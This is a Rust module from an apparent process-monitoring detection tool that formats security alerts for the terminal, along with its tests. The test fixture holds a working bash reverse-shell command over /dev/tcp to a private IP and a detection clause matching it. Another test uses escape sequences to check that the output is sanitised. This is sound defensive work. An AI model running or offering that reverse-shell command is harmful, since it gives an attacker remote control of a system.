//! An alert for people: what, who, why, in 100 columns.

use daemoneye_format::{Alert, Severity, safe_in, text};
use jiff::Timestamp;
use owo_colors::{OwoColorize, Style};

use crate::tree;

/// Columns of a line.
const WIDTH: usize = 100;
/// Columns before a value: two spaces and its label.
const LABEL: usize = 12;
/// Columns of a value.
const VALUE: usize = WIDTH - LABEL;
/// Columns of the head that are not the title.
const HEAD: usize = 38;
/// Columns of a name before its value.
const FIELD: usize = 40;
/// Fields that are always shown, so that a rule's own choice does not repeat them.
const ALWAYS: &[&str] = &["pid", "name", "user_name", "executable_path", "command_line", "time"];

/// The alert in several lines, the last one empty.
pub(crate) fn render(alert: &Alert, colour: bool) -> String {
    let mut page = Page { text: String::new(), colour };
    page.head(alert);
    page.row("process", &process(alert));
    page.optional_row("command", alert.field("command_line"));
    page.block("tree", &tree::lines(alert, VALUE));
    page.block("because", &because(alert));
    page.block("shown", &shown(alert));
    page.row("rule", &rule(alert));
    page.row("latency", &latency(alert));
    page.text.push('\n');
    page.text
}

struct Page {
    text: String,
    colour: bool,
}

impl Page {
    /// Severity, time and title in one line.
    fn head(&mut self, alert: &Alert) {
        let (word, style) = severity(alert.severity);
        let severity = self.styled(&format!("{word:8}"), style);
        let title = self.styled(&safe_in(&alert.title, WIDTH - HEAD), Style::new().bold());
        let line = format!("{severity}  {:26}  {title}\n", time(alert.time));
        self.text.push_str(&line);
    }

    fn row(&mut self, label: &str, value: &str) {
        self.block(label, &[safe_in(value, VALUE)]);
    }

    fn optional_row(&mut self, label: &str, value: Option<String>) {
        if let Some(value) = value.filter(|value| !value.is_empty()) {
            self.row(label, &value);
        }
    }

    /// Lines that are safe already, the label beside the first.
    fn block(&mut self, label: &str, lines: &[String]) {
        for (number, line) in lines.iter().enumerate() {
            let label = if number == 0 { label } else { "" };
            let label = self.styled(&format!("  {label:10}"), Style::new().dimmed());
            self.text.push_str(&format!("{label}{line}\n"));
        }
    }

    fn styled(&self, text: &str, style: Style) -> String {
        if self.colour { text.style(style).to_string() } else { text.to_owned() }
    }
}

fn severity(severity: Severity) -> (&'static str, Style) {
    match severity {
        Severity::Critical => ("CRITICAL", Style::new().white().on_red().bold()),
        Severity::High => ("HIGH", Style::new().red().bold()),
        Severity::Medium => ("MEDIUM", Style::new().yellow().bold()),
        Severity::Low => ("LOW", Style::new().cyan()),
        Severity::Info => ("INFO", Style::new().blue()),
    }
}

/// UTC, with milliseconds.
fn time(microseconds: i64) -> String {
    match Timestamp::from_microsecond(microseconds) {
        Ok(time) => time.strftime("%Y-%m-%d %H:%M:%S.%3fZ").to_string(),
        Err(_) => format!("{microseconds} us"),
    }
}

fn process(alert: &Alert) -> String {
    let field = |name: &str| alert.field(name).unwrap_or_else(|| "?".to_owned());
    let user = alert.field("user_name").or_else(|| alert.field("user_id"));
    let user = user.map(|user| format!(" by {user}")).unwrap_or_default();
    let path = alert.field("executable_path").map(|path| format!(", {path}")).unwrap_or_default();
    format!("{} {}{user}{path}", field("pid"), field("name"))
}

/// Each clause, and below it what it found.
fn because(alert: &Alert) -> Vec<String> {
    let lines = alert.evidence.iter().flat_map(|evidence| {
        let found = assignment(&evidence.field, &evidence.value, VALUE - 2);
        // Authors break long clauses; here a clause is one line.
        let clause = evidence.clause.split_whitespace().collect::<Vec<_>>().join(" ");
        [safe_in(&clause, VALUE), format!("  {found}")]
    });
    lines.collect()
}

/// What the rule shows of its own choice.
fn shown(alert: &Alert) -> Vec<String> {
    let own = alert.shown.iter().filter(|(label, _)| !ALWAYS.contains(&label.as_str()));
    let lines = own.filter_map(|(label, value)| Some(assignment(label, &text(value)?, VALUE)));
    lines.collect()
}

fn assignment(name: &str, value: &str, columns: usize) -> String {
    let name = format!("{} = ", safe_in(name, FIELD));
    let room = columns.saturating_sub(name.chars().count());
    name + &safe_in(value, room)
}

fn rule(alert: &Alert) -> String {
    let mut words = vec![alert.rule.clone(), format!("pack {}", alert.pack)];
    words.extend(alert.techniques.iter().cloned());
    if alert.repeats > 0 {
        words.push(format!("{} before this one", alert.repeats));
    }
    words.join(" · ")
}

fn latency(alert: &Alert) -> String {
    let kind = alert.field("kind").unwrap_or_else(|| "the event".to_owned());
    format!("{} after {kind}", duration(alert.latency))
}

fn duration(microseconds: i64) -> String {
    match microseconds {
        i64::MIN..=999 => format!("{microseconds} µs"),
        1_000..=999_999 => format!("{} ms", microseconds / 1_000),
        1_000_000..=119_999_999 => format!("{:.1} s", microseconds as f64 / 1e6),
        120_000_000.. => format!("{} min", microseconds / 60_000_000),
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use serde_json::{Value as Json, json};

    use super::*;

    pub(crate) fn alert<const N: usize>(event: [(&str, Json); N]) -> Alert {
        let mut alert: Alert = serde_json::from_value(json!({
            "id": "a1", "time": 1_767_225_600_123_456_i64, "latency": 12_345,
            "rule": "reverse-shell", "title": "Reverse shell over /dev/tcp", "pack": "linux",
            "severity": "critical", "techniques": ["T1059.004"], "evidence": [], "shown": {},
            "event": {}, "repeats": 0,
        }))
        .expect("an alert");
        alert.event.extend(event.map(|(name, value)| (name.to_owned(), value)));
        alert
    }

    fn reverse_shell() -> Alert {
        let ancestry =
            r#"[{"pid":812,"name":"nginx","path":"/usr/sbin/nginx"},{"pid":1,"name":"systemd"}]"#;
        let command = "bash -i >& /dev/tcp/10.0.0.1/443 0>&1";
        let mut alert = alert([
            ("kind", "exec".into()),
            ("pid", 4711.into()),
            ("name", "bash".into()),
            ("user_name", "www-data".into()),
            ("executable_path", "/usr/bin/bash".into()),
            ("command_line", command.into()),
            ("ancestry", ancestry.into()),
        ]);
        alert.evidence.push(daemoneye_format::Evidence {
            clause: "command_line LIKE '%/dev/tcp/%'".into(),
            field: "command_line".into(),
            value: command.into(),
        });
        alert
    }

    #[test]
    fn an_alert_says_what_who_and_why() {
        let expected = "\
CRITICAL  2026-01-01 00:00:00.123Z    Reverse shell over /dev/tcp
  process   4711 bash by www-data, /usr/bin/bash
  command   bash -i >& /dev/tcp/10.0.0.1/443 0>&1
  tree      1 systemd
            └─ 812 /usr/sbin/nginx
               └─ 4711 /usr/bin/bash
  because   command_line LIKE '%/dev/tcp/%'
              command_line = bash -i >& /dev/tcp/10.0.0.1/443 0>&1
  rule      reverse-shell · pack linux · T1059.004
  latency   12 ms after exec

";
        assert_eq!(render(&reverse_shell(), false), expected);
    }

    #[test]
    fn no_line_is_wider_than_the_page_and_nothing_hostile_is_left() {
        let hostile = "\x1b[2J\u{202e}\r\n".repeat(200);
        let mut alert = reverse_shell();
        for field in ["name", "user_name", "executable_path", "command_line"] {
            alert.event.insert(field.into(), hostile.clone().into());
        }
        let ancestry = json!([{"pid": 1, "name": hostile, "path": hostile}]).to_string();
        alert.event.insert("ancestry".into(), ancestry.into());
        alert.shown.insert(hostile.clone(), hostile.clone().into());
        (alert.title, alert.rule) = (hostile.clone(), hostile.clone());
        alert.evidence[0] = daemoneye_format::Evidence {
            clause: hostile.clone(),
            field: hostile.clone(),
            value: hostile,
        };
        let text = render(&alert, false);
        for line in text.lines() {
            assert!(line.chars().count() <= WIDTH, "{line}");
            assert!(!line.contains(['\x1b', '\r', '\u{202e}']), "{line:?}");
        }
    }

    #[test]
    fn colour_is_only_where_it_is_wanted() {
        assert!(!render(&reverse_shell(), false).contains('\x1b'));
        assert!(render(&reverse_shell(), true).starts_with("\x1b["));
    }

    #[test]
    fn a_rules_own_choice_is_shown_unless_it_is_shown_anyway() {
        let mut alert = reverse_shell();
        alert.shown.insert("target".into(), "10.0.0.1".into());
        alert.shown.insert("pid".into(), 4711.into());
        alert.shown.insert("tty".into(), Json::Null);
        let text = render(&alert, false);
        assert!(text.contains("  shown     target = 10.0.0.1\n"), "{text}");
        assert!(!text.contains("pid =") && !text.contains("tty ="), "{text}");
    }

    #[test]
    fn durations_are_short() {
        let table = [(0, "0 µs"), (999, "999 µs"), (12_345, "12 ms"), (1_240_000, "1.2 s")];
        for (microseconds, words) in table {
            assert_eq!(duration(microseconds), words);
        }
        assert_eq!(duration(600_000_000), "10 min");
    }
}
